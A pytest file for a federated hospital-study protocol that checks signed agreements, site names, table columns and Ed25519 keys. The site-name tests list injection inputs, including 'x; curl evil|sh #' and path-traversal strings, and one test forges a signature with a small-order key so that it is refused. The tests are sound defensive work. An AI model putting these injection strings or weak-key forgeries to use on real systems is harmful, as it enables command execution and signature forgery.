"""What sites agree on, its hash and signatures; tables held against it."""

from __future__ import annotations

import base64
import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest
import studies
import torch
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from tiny import Invoke

from consilience.data.cells import Cell
from consilience.distributions.posterior import Dense, Gaussian
from consilience.errors import InputError
from consilience.study.joining import add_member, join_text
from consilience.study.proposal import EXAMPLE, consistent, proposal
from consilience.study.protocol.agreement import from_fields
from consilience.study.protocol.columns import Column, features, inspect, labelled_rows, sums
from consilience.study.protocol.members import Study, read, signed_words
from consilience.study.protocol.names import check_name
from consilience.study.protocol.rehearsal import rehearse, would_leave
from consilience.study.protocol.signature import PREFIX, is_weak, new_key, public, sign, verifies
from consilience.study.protocol.target import Target
from consilience.study.protocol.text import propose_columns, study_text
from consilience.study.protocol.toml import read_columns
from consilience.study.validation.rules import admit


def test_a_study_survives_its_file_and_its_layout(tmp_path: Path) -> None:
    made = studies.study(tmp_path).recorded("abc", ["north", "south"])
    path = tmp_path / "sepsis.toml"
    path.write_text(study_text(made))

    again = read(path)

    assert again == made
    assert study_text(again) == path.read_text()
    path.write_text("# a remark\n" + path.read_text().replace('type = "number", ', 'type   =  "number",'))
    assert read(path).agreement.hash == made.agreement.hash
    assert from_fields(dataclasses.asdict(made.agreement)) == made.agreement


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        ("seed = 0", "seed = 1", "signature of 'north' is not for this agreement"),
        ("format = 2", "format = 3", "format 3"),
        ("format = 2", "format = 1", "format 1; consilience"),
        ('method = "mixture"', 'method = "mixtur"', "Did you mean 'mixture'"),
        ('type = "number"', 'type = "numbers"', "Did you mean 'number'"),
        ("rounds = 1", "rounds = 2", "one-round method"),
        ("smallest = 10", "smallest = true", "smallest"),
        ("seed = 0", "sede = 0", "sede"),
        ("[columns]", "[colums]", "columns"),
        ("seed = 0", "seed = ", "cannot be read as TOML"),
        ('hand_out = "mixture"', 'hand_out = "all"', "way to hand out the model"),
    ],
)
def test_a_changed_study_is_refused_in_one_sentence(tmp_path: Path, before: str, after: str, said: str) -> None:
    path = tmp_path / "sepsis.toml"
    path.write_text(study_text(studies.study(tmp_path)).replace(before, after, 1))

    with pytest.raises(InputError, match=said):
        read(path)


def test_joining_and_leaving_keeps_numbers(tmp_path: Path) -> None:
    made = studies.study(tmp_path).recorded("m", studies.NAMES)

    left = made.without("south")
    key = new_key(tmp_path / "east.key")
    signed = sign(key, "agreement", signed_words(made.agreement, "east", 80))
    more = left.with_member("east", public(key), signed, 80)

    assert [s.number for s in more.active] == [0, 2, 3]  # 1 is not given again
    assert left.models[0].superseded and not made.models[0].superseded
    with pytest.raises(InputError, match="has left"):
        left.member("south")
    with pytest.raises(InputError, match="no site in the study"):
        left.member("nowhere")
    with pytest.raises(InputError, match="in the study already"):
        made.with_member("North", public(key), signed, 80)
    with pytest.raises(InputError, match="not for this agreement and this name"):
        made.with_member("west-2", public(key), signed, 80)
    with pytest.raises(InputError, match="not for this agreement and this name"):  # as older versions signed
        made.with_member("east", public(key), sign(key, "agreement", made.agreement.hash.encode()), 80)
    with pytest.raises(InputError, match="not for this agreement"):
        made.with_member("east", public(key), sign(key, "reply", signed_words(made.agreement, "east", 80)), 80)


NO_NAMES = [
    "",
    " north",
    "north.",
    "-rf",
    "..",
    "/mnt/outbox/x",
    "..\\x",
    "Server",
    "x; curl evil|sh #",
    "\x1b[2Jfake",
    "a\x7f",
]
LOOK_ALIKES = ["clevel\u0430nd", "ｎorth", "nort\u200bh", "north\u0301", "[/red]", "a\nb", "x" * 65]


@pytest.mark.parametrize("name", [*NO_NAMES, *LOOK_ALIKES])
def test_what_is_not_a_plain_name_is_no_name_of_a_site(tmp_path: Path, name: str) -> None:
    study = studies.study(tmp_path)
    key = new_key(tmp_path / "east.key")
    fields = {"hash": study.agreement.hash, "key": public(key), "site": name}
    signed = sign(key, "agreement", signed_words(study.agreement, name, 80))
    (tmp_path / "x.join").write_text(json.dumps({**fields, "signature": signed}))
    path = tmp_path / "sepsis.toml"
    path.write_text(study_text(study).replace('name = "north"', f"name = {json.dumps(name)}"), newline="")

    with pytest.raises(InputError, match="cannot be a site's name"):
        add_member(study, tmp_path / "x.join")
    with pytest.raises(InputError):
        read(path)


@pytest.mark.parametrize("name", ["CON", "nul", "Com1", "aux.north", "lpt9 "])
def test_names_that_windows_takes_for_devices_are_no_names_of_new_sites_and_studies(
    tmp_path: Path, name: str, invoke: Invoke
) -> None:
    study = studies.study(tmp_path)
    key = new_key(tmp_path / "east.key")
    signed = sign(key, "agreement", signed_words(study.agreement, name, 80))

    with pytest.raises(InputError, match="cannot be a site's name"):
        study.with_member(name, public(key), signed, 80)
    code, _, err = invoke("study", "new", name, "--folder", str(tmp_path))
    assert code == 2 and "cannot name a study's file" in " ".join(err.split())
    if name == name.strip():
        check_name(name)  # a study that has such a site is still read


@pytest.mark.parametrize("name", ["cleveland", "St. Mary-2_b", "Zürich", "Пермь", "東京メディカル"])
def test_names_may_be_of_any_one_script(name: str) -> None:
    check_name(name)


def test_a_name_changed_in_the_study_is_noticed(tmp_path: Path) -> None:
    path = tmp_path / "sepsis.toml"
    text = study_text(studies.study(tmp_path))

    path.write_text(text.replace('name = "north"', 'name = "east"'))
    with pytest.raises(InputError, match="'east' is not for this agreement and this name"):
        read(path)
    path.write_text(text + text[text.index("[[sites]]") :])
    with pytest.raises(InputError, match="the same name"):
        read(path)


def test_features_are_what_the_agreement_says(tmp_path: Path) -> None:
    path = studies.table(
        tmp_path / "a.csv",
        [
            {"died": "no", "ward": "b", "lactate": "4", "age": "65", "doctor": "x"},  # another order, a column more
            {"died": "yes", "ward": "", "lactate": "?", "age": "50", "doctor": "x"},
        ],
    )

    found = inspect(path, studies.COLUMNS, studies.agreement(tmp_path).target)
    data = labelled_rows(studies.COLUMNS, studies.agreement(tmp_path).target, found)

    # (65 − 50) / 15 = 1, (4 − 2) / 2 = 1; a gap is the fill, (1 − 2) / 2 = −0.5, and marked; or none of the levels
    assert data.x.tolist() == [[1, 1, 0, 0, 1, 0], [0, -0.5, 1, 0, 0, 0]]
    assert data.y.tolist() == [0, 1]
    assert found.extra == ("doctor",) and found.missing == {"age": 0, "lactate": 1, "ward": 1, "died": 0}


def test_unknown_numbers_are_compared_as_numbers() -> None:
    column = Column("chol", range=(0.0, 700.0), missing="mark", fill=200.0, unknown=("0", "?"))
    cells = [Cell(text, "a.csv", 2) for text in ("0", "0.0", "00", "?", "250")]

    assert [column.empty(cell) for cell in cells] == [True, True, True, True, False]
    assert column.features(cells).tolist() == [[200, 1]] * 4 + [[250, 0]]


def test_sums_leave_out_what_is_known_too_seldom(tmp_path: Path) -> None:
    made = studies.agreement(tmp_path)
    records = [{"age": str(20 + i), "lactate": "?" if i else "3", "ward": "a", "died": "no"} for i in range(12)]
    found = inspect(studies.table(tmp_path / "a.csv", records), made.columns, made.target)

    total = sums(made.columns, made.target, found, smallest=10)

    # ages 20 … 31: Σ = 306, Σ² = Σ_{20}^{31} i² = 10416 − 2470 = 7946; one lactate is too few; categories have no sums
    assert total.tolist() == [[12, 306, 7946], [0, 0, 0], [0, 0, 0], [0, 0, 0]]


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("age", "850", r"1 of 60 values lie outside 18 to 100 years \(such as '850', a.csv, line 2\)"),
        ("age", "", "missing in 1 of 60 rows"),
        ("age", "old", "are not numbers"),
        ("ward", "z", "none of the agreed a, b, c"),
        ("died", "", "'died' is missing in 1"),
        ("died", "perhaps", "none of the agreed no, yes"),
        ("lactate", "1,5", "are not numbers"),
    ],
)
def test_a_table_that_breaks_the_agreement_says_where(tmp_path: Path, column: str, value: str, said: str) -> None:
    records = studies.rows(0)
    records[0][column] = value
    made = studies.agreement(tmp_path)

    found = inspect(studies.table(tmp_path / "a.csv", records), made.columns, made.target)

    assert len(found.problems) == 1
    with pytest.raises(InputError, match=said):
        features(made.columns, found)


def test_a_missing_column_is_named(tmp_path: Path) -> None:
    names = {"age": "years", "lactate": "LACTATE "}  # capitals and blanks do not matter
    records = [{names.get(k, k): v for k, v in r.items() if k != "ward"} for r in studies.rows(0)]
    made = studies.agreement(tmp_path)

    found = inspect(studies.table(tmp_path / "a.csv", records), made.columns, made.target)

    assert len(found.problems) == 2
    with pytest.raises(InputError, match=r"no column 'age': .* 1 more"):
        found.sound()


def test_columns_are_proposed_from_an_example(tmp_path: Path) -> None:
    path = studies.table(tmp_path / "a.csv", studies.rows(0))

    target, columns = propose_columns(path, "died")

    assert target.classes == ("no", "yes")
    assert [c.type for c in columns] == [
        "number",
        "number",
        "category",
    ]
    assert (columns[1].unknown, columns[1].missing) == (("?",), "mark")  # of lactate
    assert columns[0].range[0] <= 30 and columns[0].range[1] >= 90


@pytest.mark.parametrize("names", [60, 21, 4])
def test_texts_that_may_name_patients_are_not_proposed(tmp_path: Path, names: int) -> None:
    count = max(names, 6) if names < 21 else 60
    records = [{"patient": f"p{i % names}", **row} for i, row in enumerate(studies.rows(0, count))]
    path = studies.table(tmp_path / "a.csv", records)

    with pytest.raises(InputError, match=f"'patient' has {names} different texts in {count} rows"):
        propose_columns(path, "died")


def test_the_hospitals_data_dictionary_can_be_agreed_on(tmp_path: Path) -> None:
    target, columns = read_columns(Path(__file__).parents[2] / "examples" / "hospitals" / "columns.toml")

    made = proposal("heart", "", target, columns)
    consistent(made)

    assert len(columns) == 13 and len(made.feature_names) == 30
    # The default: 62 weights of two logits, a mean and a full precision matrix in float32: 4 (62 + 62²) = 15 624 bytes.
    assert made.leaves == ("Dense",) and would_leave(made)[1] == 15_624


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ({"method": "mixtur"}, "Did you mean 'mixture'"),
        ({"model": "mpl"}, "Did you mean 'mlp'"),
        ({"method": "centralised"}, "cannot serve"),
        ({"method": "mixture", "rounds": 3}, "one-round"),
        ({"method": "mixture", "hand_out": "student"}, "distil=Distil"),
        ({"method": "bcm", "hand_out": "mixture"}, 'hand_out = "ensemble"'),
    ],
)
def test_proposals_that_cannot_work(words: dict[str, Any], said: str) -> None:
    with pytest.raises(InputError, match=said):
        consistent(proposal("x", "", *EXAMPLE, **words))


def test_an_agreement_must_say_what_its_method_sends() -> None:
    made = proposal("x", "", *EXAMPLE, method="mixture")

    with pytest.raises(InputError, match=r'write leaves = \["Samples"\]'):
        consistent(dataclasses.replace(made, leaves=("Point",)))
    with pytest.raises(InputError, match="larger most_bytes"):
        consistent(dataclasses.replace(made, most_bytes=10))


def test_what_a_reply_must_look_like(tmp_path: Path) -> None:
    made = studies.agreement(tmp_path)
    expected = rehearse(made).send
    params = expected.params

    admit(expected, expected, "x")
    for name, bad in {
        "shape": {**params, "0.weight": params["0.weight"][:1]},
        "not finite": {**params, "0.weight": params["0.weight"] * torch.nan},
        "names are wrong": {**params, "extra": params["0.weight"]},
        r"\) of float64": {**params, "0.weight": params["0.weight"].double()},
    }.items():
        with pytest.raises(InputError, match=name):
            admit(expected._replace(params=bad), expected, "x")
    with pytest.raises(InputError, match="names are wrong"):
        admit((params,), expected, "x")
    wide = Gaussian({"a": torch.zeros(2)}, {"a": torch.ones(2)})
    with pytest.raises(InputError, match="variance"):
        admit(wide._replace(var={"a": -torch.ones(2)}), wide, "x")
    dense = Dense(torch.zeros(2), torch.eye(2))
    with pytest.raises(InputError, match="positive definite"):
        admit(dense._replace(precision=-torch.eye(2)), dense, "x")


def test_the_hash_covers_every_field(tmp_path: Path) -> None:
    made = studies.agreement(tmp_path)
    other = {str: "x", int: 77, float: 0.123, tuple: ("x",), Target: Target("x")}

    for field in dataclasses.fields(made):
        value = getattr(made, field.name)
        changed = dataclasses.replace(made, **{field.name: other.get(type(value), "x")})
        assert changed.hash != made.hash, field.name
    assert Study(made).agreement.hash == made.hash


@pytest.mark.parametrize(
    "name", ["St. Mary's", "Hôpital d’Enfants", "Bern (Insel)", "A&E", "佐々木病院", "दिल्ली", "Köln, Mitte", "7"]
)
def test_names_that_hospitals_have_are_names(name: str) -> None:
    check_name(name)


def small_order_keys() -> list[bytes]:
    """Every encoding of the points whose order divides 8, canonical or not."""
    field = 2**255 - 19
    eighth = int.from_bytes(bytes.fromhex("c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a"), "little")
    heights = (0, 1, field - 1, eighth, field - eighth, field, field + 1)
    return [(y + sign * 2**255).to_bytes(32, "little") for y in heights for sign in (0, 1)]


def doubled(point: tuple[int, int]) -> tuple[int, int]:
    """Twice a point of edwards25519."""
    field = 2**255 - 19
    d = -121665 * pow(121666, -1, field) % field
    x, y = point
    k = d * x * x * y * y % field
    return 2 * x * y * pow(1 + k, -1, field) % field, (y * y + x * x) * pow(1 - k, -1, field) % field


def test_the_list_of_weak_keys_is_the_curves(tmp_path: Path) -> None:
    """Eight times every such point is nothing; a key that was made is none of them."""
    field = 2**255 - 19
    d = -121665 * pow(121666, -1, field) % field
    for raw in small_order_keys():
        y = int.from_bytes(raw, "little") % 2**255 % field
        square = (y * y - 1) * pow(d * y * y + 1, -1, field) % field
        x = pow(square, (field + 3) // 8, field)
        if x * x % field != square:
            x = x * pow(2, (field - 1) // 4, field) % field
        assert x * x % field == square  # a point of the curve
        assert doubled(doubled(doubled((x, y)))) == (0, 1)
        assert is_weak(PREFIX + base64.b64encode(raw).decode())
    assert not is_weak(public(new_key(tmp_path / "x.key"))) and not is_weak("ed25519:nonsense")


def test_nobody_joins_with_a_key_that_everybody_can_sign_for(tmp_path: Path) -> None:
    """Under the curve's neutral point, one signature fits every message."""
    study = studies.study(tmp_path)
    nothing = b"\x01" + bytes(31)
    key = PREFIX + base64.b64encode(nothing).decode()
    forged = base64.b64encode(nothing + bytes(32)).decode()
    Ed25519PublicKey.from_public_bytes(nothing).verify(nothing + bytes(32), b"any message")  # which raises nothing
    fields = {"hash": study.agreement.hash, "key": key, "site": "east", "signature": forged, "rows": 80}
    (tmp_path / "east.join").write_text(json.dumps(fields))

    assert not verifies(key, "agreement", b"any message", forged)
    with pytest.raises(InputError, match="none that only its owner can sign with"):
        add_member(study, tmp_path / "east.join")


@pytest.mark.parametrize("rows", [0, 9, 10**9])
def test_a_site_commits_to_a_number_of_rows(tmp_path: Path, rows: int) -> None:
    study = studies.study(tmp_path)
    key = new_key(tmp_path / "east.key")
    signed = sign(key, "agreement", signed_words(study.agreement, "east", rows))

    with pytest.raises(InputError, match=f"'east' commits to {rows:,} rows; a whole number from 10"):
        study.with_member("east", public(key), signed, rows)
    with pytest.raises(InputError, match="commits to"):
        join_text(study.agreement, "east", key, rows)
    with pytest.raises(InputError, match="not for this agreement"):  # other rows than were signed
        study.with_member("east", public(key), signed, 80)


def test_the_committed_rows_in_the_list_are_signed(tmp_path: Path) -> None:
    path = tmp_path / "sepsis.toml"
    text = study_text(studies.study(tmp_path))
    assert "rows = 100" in text
    path.write_text(text.replace("rows = 100", "rows = 100000", 1))

    with pytest.raises(InputError, match="signature of 'north'"):
        read(path)


def test_dates_are_counted_from_an_agreed_day_and_the_day_is_signed(tmp_path: Path) -> None:
    seen = Column("seen", "number", "days", (0.0, 400.0), 200.0, 100.0, since="2023-12-31")
    plain = studies.agreement(tmp_path)
    made = studies.study(tmp_path, columns=(*studies.COLUMNS, seen))
    path = tmp_path / "sepsis.toml"
    path.write_text(study_text(made))
    assert read(path) == made and made.agreement.hash != plain.hash
    assert "since" not in plain.fields["columns"][0]
    records = [row | {"seen": f"2024-01-{1 + i % 28:02}"} for i, row in enumerate(studies.rows(0))]
    found = inspect(studies.table(tmp_path / "a.csv", records), made.agreement.columns, made.agreement.target)
    assert not found.problems
    assert features(made.agreement.columns, found)[:3, -1].tolist() == pytest.approx([-1.99, -1.98, -1.97])
    records[4]["seen"] = "spring"
    found = inspect(studies.table(tmp_path / "a.csv", records), made.agreement.columns, made.agreement.target)
    assert "'spring'" in found.problems[0] and "line 6" in found.problems[0]
    with pytest.raises(InputError, match="write since"):
        dataclasses.replace(made.agreement, columns=(dataclasses.replace(seen, since="May"),)).check()
